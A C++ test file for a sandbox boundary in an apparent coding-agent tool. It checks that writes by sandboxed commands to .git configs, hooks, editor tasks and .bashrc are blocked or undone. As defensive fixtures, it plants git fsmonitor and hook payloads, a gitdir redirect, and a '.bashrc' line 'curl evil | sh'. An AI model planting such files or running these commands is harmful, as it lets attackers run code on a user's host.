#include "tools/tree_boundary.h"

#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <thread>

#include "tools/testing/temp_tree.h"

namespace mecha::tools {
namespace {

namespace fs = std::filesystem;
using testing::TempTree;

class TreeBoundaryTest : public ::testing::Test {
 protected:
  TreeBoundaryTest() {
    t_.write(".git/HEAD", "ref: refs/heads/main\n");
    t_.write(".git/config", "");
    t_.write(".git/objects/info/.keep", "");
    t_.write("vendor/lib/.git/config", "[core]\n\tbare = false\n");
    t_.write(".envrc", "export A=1\n");
    t_.write("src/main.c", "");
  }
  std::shared_ptr<TreeBoundary> open() {
    TreeBoundary::Options o;
    o.stage_parent = t_.base() / "state/stages";
    o.markers = t_.base() / "state/runs";
    auto b = TreeBoundary::open(t_.root(), o);
    EXPECT_TRUE(b.ok()) << b.message();
    return b.ok() ? *b : nullptr;
  }
  bool exists(const std::string& rel) const {
    return fs::exists(fs::symlink_status(t_.root() / rel));
  }
  std::vector<std::string> markers() const {
    std::vector<std::string> out;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(t_.base() / "state/runs", ec))
      out.push_back(e.path().filename().string());
    return out;
  }
  TempTree t_;
};

TEST_F(TreeBoundaryTest, EveryRepositoryAndProtectedPlaceIsBoundReadOnlyAndTheTopOneStaged) {
  auto b = open();
  ASSERT_TRUE(b);
  std::vector<std::string> shown;
  for (const SandboxBind& m : b->binds()) {
    std::string target = fs::path(m.target).lexically_relative(t_.root()).string();
    shown.push_back(target + (m.kind == SandboxBind::Kind::kWritable ? " rw" : " ro"));
  }
  EXPECT_EQ(shown, (std::vector<std::string>{".git rw", ".git/config ro", ".git/objects rw",
                                             ".envrc ro", "vendor/lib/.git ro"}));
}

// Masks by path, as a run's deny rules would give them.
class PathMasks final : public SandboxMasks {
 public:
  explicit PathMasks(std::map<std::string, Mask> masks) : masks_(std::move(masks)) {}
  Mask mask_for(std::string_view path) const override {
    auto it = masks_.find(std::string(path));
    return it == masks_.end() ? Mask::kNone : it->second;
  }
  Found find(const fs::path&, size_t) const override {
    Found out;
    for (const auto& [path, mask] : masks_)
      if (fs::exists(fs::symlink_status(path))) out.masks.emplace_back(path, mask);
    return out;
  }

 private:
  std::map<std::string, Mask> masks_;
};

TEST_F(TreeBoundaryTest, TheFoldersThatHoldAMaskedPathAreBoundOnThemselvesFirst) {
  t_.write("conf/prod/app.yml", "");
  t_.write("conf/prod/db.yml", "");
  t_.write("svc/.env", "");
  fs::create_directory_symlink(t_.root() / "conf", t_.root() / "linked");
  t_.write_outside("elsewhere/key", "");
  const std::string root = t_.root().string();
  TreeBoundary::Options o;
  o.masks = std::make_shared<PathMasks>(std::map<std::string, SandboxMasks::Mask>{
      {root + "/conf/prod/app.yml", SandboxMasks::Mask::kReadOnly},
      {root + "/conf/prod/db.yml", SandboxMasks::Mask::kHidden},
      {root + "/svc/.env", SandboxMasks::Mask::kHidden},
      {root + "/.envrc", SandboxMasks::Mask::kHidden},
      // Through a link: the link is no folder to pin.
      {root + "/linked/x", SandboxMasks::Mask::kHidden},
      // Outside the tree all is read-only already.
      {(t_.base() / "elsewhere/key").string(), SandboxMasks::Mask::kHidden}});
  t_.write("linked/x", "");
  auto b = TreeBoundary::open(t_.root(), o);
  ASSERT_TRUE(b.ok()) << b.message();
  std::vector<std::string> shown;
  for (const SandboxBind& m : (*b)->binds()) {
    std::string target = fs::path(m.target).lexically_relative(t_.root()).string();
    const char* kind = m.kind == SandboxBind::Kind::kWritable   ? " rw"
                       : m.kind == SandboxBind::Kind::kReadOnly ? " ro"
                                                                : " hidden";
    shown.push_back(target + kind);
  }
  EXPECT_EQ(shown,
            (std::vector<std::string>{
                "conf rw", "conf/prod rw", "svc rw", ".envrc ro", ".git ro", "vendor/lib/.git ro",
                "../elsewhere/key hidden", ".envrc hidden", "conf/prod/app.yml ro",
                "conf/prod/db.yml hidden", "linked/x hidden", "svc/.env hidden"}));
}

// A process that makes events as fast as it can (a folder swapped with a link, over and over,
// as a background command of the run may) does not keep the boundary's watch holding its
// lock: sandboxes keep starting and ending while it runs.
TEST_F(TreeBoundaryTest, SandboxesStartWhileAFolderIsSwappedWithALinkOverAndOver) {
  for (int i = 0; i < 2000; ++i) t_.write("data/sub/file" + std::to_string(i), "");
  fs::create_directory_symlink(t_.base(), t_.root() / "data/link");
  auto b = open();
  ASSERT_TRUE(b);
  std::atomic<bool> stop{false}, gave_up{false};
  std::thread swapper([&] {
    const std::string a = (t_.root() / "data/sub").string();
    const std::string l = (t_.root() / "data/link").string();
    const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(30);
    while (!stop) {
      if (std::chrono::steady_clock::now() > until) {
        gave_up = true;
        return;
      }
      ::renameat2(AT_FDCWD, a.c_str(), AT_FDCWD, l.c_str(), RENAME_EXCHANGE);
    }
  });
  for (int i = 0; i < 50; ++i) {
    ASSERT_TRUE(b->begin().ok());
    (void)b->binds();
    b->end_quietly();
  }
  EXPECT_FALSE(gave_up) << "the sandboxes started only once the events stopped coming";
  stop = true;
  swapper.join();
}

TEST_F(TreeBoundaryTest, WhatASandboxedProcessMakesIsUndoneWhateverItsDepth) {
  auto b = open();
  ASSERT_TRUE(b);
  ASSERT_TRUE(b->begin().ok());
  t_.write("deep/er/still/.git/config", "[core]\n\tfsmonitor = touch /tmp/x\n");
  t_.write("deep/er/still/.git/HEAD", "ref: refs/heads/main\n");
  t_.write("deep/er/still/.git/refs/heads/main", "1111\n");
  fs::create_symlink(t_.base() / "victim", t_.root() / "deep/er/still/.git/refs/heads/evil");
  t_.write("src/.git", "gitdir: ../evil\n");
  t_.write(".vscode/tasks.json", "{}");
  t_.write("x/y/.git/hooks/pre-commit", "touch /tmp/x");
  ASSERT_EQ(::chmod((t_.root() / "x/y/.git").c_str(), 0555), 0);
  BoundaryReport r = b->end();
  EXPECT_EQ(r.removed, (std::vector<std::string>{".vscode", "deep/er/still/.git/config",
                                                 "deep/er/still/.git/refs/heads/evil", "src/.git",
                                                 "x/y/.git/hooks"}));
  EXPECT_EQ(r.failures, std::vector<std::string>{});
  for (const char* gone : {"deep/er/still/.git/config", "deep/er/still/.git/refs/heads/evil",
                           "src/.git", ".vscode", "x/y/.git/hooks"})
    EXPECT_FALSE(exists(gone)) << gone;
  // What git only reads stays: the repository the command made keeps its commits.
  EXPECT_TRUE(exists("deep/er/still/.git/HEAD"));
  EXPECT_TRUE(exists("deep/er/still/.git/refs/heads/main"));
  EXPECT_TRUE(exists("vendor/lib/.git/config"));
  EXPECT_TRUE(exists(".envrc"));
  // A config planted in that repository by a later command is undone too.
  ASSERT_TRUE(b->begin().ok());
  t_.write("deep/er/still/.git/config", "[core]\n\tfsmonitor = touch /tmp/x\n");
  EXPECT_EQ(b->end().removed, std::vector<std::string>{"deep/er/still/.git/config"});
  EXPECT_FALSE(exists("deep/er/still/.git/config"));
  ::chmod((t_.root() / "x/y/.git").c_str(), 0755);
}

TEST_F(TreeBoundaryTest, WhatAppearsWhileNothingOfTheRunIsAliveIsTheUsersAndKept) {
  auto b = open();
  ASSERT_TRUE(b);
  t_.write("mine/.git/HEAD", "");  // the user's git init in another terminal
  ASSERT_TRUE(b->begin().ok());
  BoundaryReport r = b->end();
  EXPECT_EQ(r.removed, std::vector<std::string>{});
  EXPECT_TRUE(exists("mine/.git/HEAD"));
  // And from now on it is protected like the others.
  bool bound = false;
  for (const SandboxBind& m : b->binds())
    bound = bound || (m.target == (t_.root() / "mine/.git").string() &&
                      m.kind == SandboxBind::Kind::kReadOnly);
  EXPECT_TRUE(bound);
  EXPECT_EQ(b->finish().removed, std::vector<std::string>{});
  EXPECT_TRUE(exists("mine/.git/HEAD"));
}

TEST_F(TreeBoundaryTest, FinishWalksTheWholeTreeAndRemovesTheMarker) {
  auto b = open();
  ASSERT_TRUE(b);
  EXPECT_EQ(markers().size(), 1u);
  ASSERT_TRUE(b->begin().ok());
  BoundaryReport r = b->end();
  // Made after the last command, as a process of the run still alive would (the monitor's
  // events of it are drained by finish(), which walks the tree besides).
  ASSERT_TRUE(b->begin().ok());
  t_.write("late/.git", "gitdir: /elsewhere\n");
  r = b->finish();
  EXPECT_EQ(r.removed, std::vector<std::string>{"late/.git"});
  EXPECT_FALSE(exists("late/.git"));
  EXPECT_EQ(markers(), std::vector<std::string>{});
}

TEST_F(TreeBoundaryTest, ADeadRunsLeftoversAreRemovedByTheNextRun) {
  {
    auto b = open();
    ASSERT_TRUE(b);
    ASSERT_TRUE(b->begin().ok());
    // The run is killed here: no end(), no finish(). Its marker names this process, so it is
    // rewritten to name one that has exited.
  }
  ASSERT_EQ(markers().size(), 1u);
  const fs::path marker = t_.base() / "state/runs" / markers()[0];
  std::ifstream in(marker);
  Json j = Json::parse(in);
  j["pid"] = 999999;  // no such process
  std::ofstream(marker) << j.dump();
  t_.write("planted/.git/config", "[core]\n\tfsmonitor = touch /tmp/x\n");
  t_.write(".bashrc", "curl evil | sh\n");
  BoundaryReport r = TreeBoundary::repair_dead_runs(t_.root(), t_.base() / "state/runs");
  EXPECT_EQ(r.removed, (std::vector<std::string>{"planted/.git", ".bashrc"}));
  ASSERT_EQ(r.notes.size(), 1u);
  EXPECT_EQ(r.notes[0], "an earlier run in " + t_.root().string() +
                            " (process 999999) ended without checking the tree; removed what it "
                            "left that host programs would obey: planted/.git, .bashrc");
  EXPECT_FALSE(exists("planted/.git"));
  EXPECT_TRUE(exists("vendor/lib/.git/config"));
  EXPECT_EQ(markers(), std::vector<std::string>{});
}

TEST_F(TreeBoundaryTest, ALiveRunsMarkerIsLeftAlone) {
  auto b = open();
  ASSERT_TRUE(b);
  t_.write("planted/.git/config", "");
  BoundaryReport r = TreeBoundary::repair_dead_runs(t_.root(), t_.base() / "state/runs");
  EXPECT_TRUE(r.empty());
  EXPECT_TRUE(exists("planted/.git"));
  EXPECT_EQ(markers().size(), 1u);
}

TEST(BoundaryNote, SaysWhatWasRemovedAndWhatCouldNotBe) {
  BoundaryReport r;
  EXPECT_EQ(boundary_note(r, true), "");
  r.removed = {".git/commondir", "sub/.git"};
  EXPECT_EQ(boundary_note(r, true),
            "\nThe sandbox removed what the command created in protected places: "
            ".git/commondir, sub/.git. They configure programs that run code on the host (git, "
            "editors, shells, mecha); commands may not write them.");
  r.removed.clear();
  r.failures = {"/t/sub/.git could not be removed: Permission denied"};
  EXPECT_EQ(boundary_note(r, false),
            "\nThe sandbox could not undo what the background command did in protected places "
            "(/t/sub/.git could not be removed: Permission denied): no further command runs in "
            "this run, and the run ends with an error.");
}

}  // namespace
}  // namespace mecha::tools
